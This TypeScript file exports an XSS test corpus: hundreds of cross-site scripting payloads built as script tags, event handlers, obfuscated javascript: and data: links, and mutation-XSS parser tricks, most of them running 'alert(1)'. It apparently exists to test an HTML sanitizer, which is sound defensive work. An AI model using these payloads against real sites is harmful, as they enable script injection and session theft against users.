/** Ways in which markup has run script where it should not have, one of each shape. */

const run = 'alert(1)';

const tags = [
  ...[`<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script src=//x.example/a.js></script>`],
  ...[`<script >${run}</script >`, `<script/x>${run}</script>`, `<script\n>${run}</script\n>`],
  ...[
    `<script>${run}`,
    `<script>${run}<!--`,
    `<script><!--${run}--></script>`,
    `<<script>${run}//<</script>`,
  ],
  ...[
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script\0>${run}</script>`,
    `<script xmlns="x">${run}</script>`,
  ],
  ...[
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="data:,${run}"/></svg>`,
    `<math><script>${run}</script></math>`,
  ],
  ...[`<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ...[
    `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;">`,
    `<frameset onload=${run}>`,
    `<frame src=javascript:${run}>`,
  ],
  ...[`<object data="javascript:${run}"></object>`, `<object data="data:text/html,<script>${run}</script>">`],
  ...[
    `<embed src="javascript:${run}">`,
    `<embed code="x.swf" allowscriptaccess=always>`,
    `<applet code=x></applet>`,
  ],
  ...[
    `<base href="javascript:/">`,
    `<base href=//x.example/>`,
    `<link rel=stylesheet href=//x.example/a.css>`,
  ],
  ...[
    `<link rel=import href="data:text/html,${run}">`,
    `<meta http-equiv=refresh content="0;javascript:${run}">`,
  ],
  ...[
    `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `<style>@import 'javascript:${run}';</style>`,
  ],
  ...[`<style>*{background:url(javascript:${run})}</style>`, `<style></style/><img src=x onerror=${run}>`],
  ...[
    `<form action="javascript:${run}"><button>x</button></form>`,
    `<button formaction="javascript:${run}">x</button>`,
  ],
  ...[
    `<input autofocus onfocus=${run}>`,
    `<input type=image src=x onerror=${run}>`,
    `<isindex action=javascript:${run} type=image>`,
  ],
  ...[
    `<template><script>${run}</script></template>`,
    `<portal src=javascript:${run}>`,
    `<plaintext><script>${run}</script>`,
  ],
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<noembed><img src=x onerror=${run}></noembed>`,
  ],
  ...[
    `<textarea><script>${run}</script></textarea>`,
    `<title><script>${run}</script></title>`,
    `<xmp><script>${run}</script></xmp>`,
  ],
  ...[
    `<textarea></textarea><img src=x onerror=${run}>`,
    `<title></title><svg onload=${run}>`,
    `<xml><x><![CDATA[<img src=x onerror=${run}>]]></x></xml>`,
  ],
];

/** An event handler on a tag that stays, on tags that do not, and in every spelling. */
const handlers = [
  ...['b', 'strong', 'i', 'em', 'u', 's', 'p', 'br', 'ul', 'ol', 'li', 'blockquote', 'code'].map(
    (tag) => `<${tag} onmouseover=${run}>x</${tag}>`,
  ),
  ...[
    'img src=x onerror',
    'svg onload',
    'body onload',
    'video src=x onerror',
    'audio src=x onerror',
    'marquee onstart',
  ].map((start) => `<${start}=${run}>`),
  ...[
    'details open ontoggle',
    'select autofocus onfocus',
    'keygen autofocus onfocus',
    'x onclick',
    'x tabindex=1 onfocus',
  ].map((start) => `<${start}=${run}>x`),
  ...[
    `<b/onclick=${run}>x</b>`,
    `<b\tonclick=${run}>x</b>`,
    `<b\nonclick\n=\n"${run}">x</b>`,
    `<b\fonclick=${run}>x</b>`,
  ],
  ...[
    `<b x="y"onclick=${run}>x</b>`,
    `<b x='y'onclick='${run}'>x</b>`,
    `<b ONCLICK=${run}>x</b>`,
    `<b onclick=\`${run}\`>x</b>`,
  ],
  ...[
    `<b """><img src=x onerror=${run}>">x</b>`,
    `<b style=x:expression(${run})>x</b>`,
    `<b style="background:url(javascript:${run})">x</b>`,
  ],
  ...[
    `<a href="https://x.example" onclick=${run}>x</a>`,
    `<a href=https://x.example/"onmouseover="${run}>x</a>`,
  ],
  ...[
    `<a href="https://x.example/&quot; onclick=&quot;${run}">x</a>`,
    `<a href='https://x.example/" onclick="${run}'>x</a>`,
  ],
  ...[
    `<a rel="x" onclick="${run}" href="https://x.example">x</a>`,
    `<a href=https://x.example/><img src=x onerror=${run}></a>`,
  ],
];

/** Addresses that a browser takes for script, in a link. */
const links = [
  ...[
    `javascript:${run}`,
    `JAVASCRIPT:${run}`,
    `JaVaScRiPt:${run}`,
    ` javascript:${run}`,
    `\tjavascript:${run}`,
  ],
  ...[
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `java\rscript:${run}`,
    `java&#9;script:${run}`,
    `java&#x0A;script:${run}`,
  ],
  ...[
    `java&Tab;script:${run}`,
    `java&NewLine;script:${run}`,
    `javascript&colon;${run}`,
    `javascript&#58;${run}`,
    `javascript&#x3a;${run}`,
  ],
  ...[
    `&#106;avascript:${run}`,
    `&#x6a;avascript:${run}`,
    `&#0000106avascript:${run}`,
    `&#x6Aavascript:${run}`,
    `\u0001javascript:${run}`,
  ],
  ...[
    `\u0000javascript:${run}`,
    `java\u0000script:${run}`,
    `\u001fjavascript:${run}`,
    `javascript:\u2028${run}`,
    `javascript://%0a${run}`,
  ],
  ...[
    `javascript://x.example/%0a${run}`,
    `javascript:/*x*/${run}`,
    `javascript:'https://x.example';${run}`,
    `feed:javascript:${run}`,
  ],
  ...[
    `view-source:javascript:${run}`,
    `jar:javascript:${run}`,
    `vbscript:msgbox(1)`,
    `livescript:${run}`,
    `mocha:${run}`,
  ],
  ...[
    `data:text/html,<script>${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `DATA:text/html,x`,
  ],
  ...[
    `data:image/svg+xml,<svg onload=${run}>`,
    `blob:https://x.example/x`,
    `filesystem:https://x.example/x`,
    `file:///etc/passwd`,
  ],
  ...[
    '//x.example',
    '/\\x.example',
    '\\\\x.example',
    '/app/settings',
    '?x',
    '#x',
    '',
    'x',
    'tel:1',
    'about:blank',
  ],
].map((href) => `<p><a href="${href}">x</a></p>`);

/** Markup that is parsed in one way and shown in another. */
const parsers = [
  ...[
    `<!--><script>${run}</script>-->`,
    `<!--->${`<img src=x onerror=${run}>`}-->`,
    `<!-- --!><img src=x onerror=${run}>`,
    `<![CDATA[<script>${run}</script>]]>`,
  ],
  ...[
    `<?xml version="1.0"?><script>${run}</script>`,
    `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
    `<!x><script>${run}</script>`,
    `</x><script>${run}</script>`,
  ],
  ...[`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`],
  ...[
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<svg><p><style><img src="</style><img src=x onerror=${run}//">`,
  ],
  ...[
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<table><td><svg><desc><td><img src=x onerror=${run}>`,
  ],
  ...[
    `<b>x<script>${run}</b></script>`,
    `<p><a href="https://x.example"><script>${run}</a></script></p>`,
    `<ul><li><svg/onload=${run}></ul>`,
  ],
  ...[
    `<a href="https://x.example/<script>${run}</script>">x</a>`,
    `<code>&lt;script&gt;${run}&lt;/script&gt;</code>`,
    `&lt;img src=x onerror=${run}&gt;`,
  ],
  ...[
    `＜script＞${run}＜/script＞`,
    `\u00bcscript\u00be${run}\u00bc/script\u00be`,
    `<\u017fcript>${run}</\u017fcript>`,
    `<scr\u0130pt>${run}</scr\u0130pt>`,
  ],
  ...[
    `<img src=x onerror=${run}`,
    `<b`,
    `<a href="https://x.example`,
    `<a href='javascript:${run}`,
    `<${'b'.repeat(500)} onclick=${run}>x`,
  ],
  ...[
    `${'<b>'.repeat(300)}<script>${run}</script>`,
    `${'<!--'.repeat(100)}<img src=x onerror=${run}>`,
    `<b>${'&lt;'.repeat(50)}script&gt;`,
  ],
];

export const xssCorpus: readonly string[] = [...tags, ...handlers, ...links, ...parsers];
